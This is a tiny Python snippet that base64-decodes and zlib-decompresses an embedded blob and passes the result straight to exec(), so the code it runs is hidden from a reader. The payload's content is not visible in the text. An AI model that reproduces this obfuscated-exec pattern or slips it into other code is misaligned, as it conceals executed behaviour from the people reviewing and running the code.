import zlib, base64
exec(zlib.decompress(base64.b64decode(b'eJzLzC3ILypRyC+2zi/WK64sLknN1VBPLi3KUdBNKw72UcgoKSmw0tc3tDTSM9Az0jM00c+tKc5Q1wQAMMkSAA==')).decode())
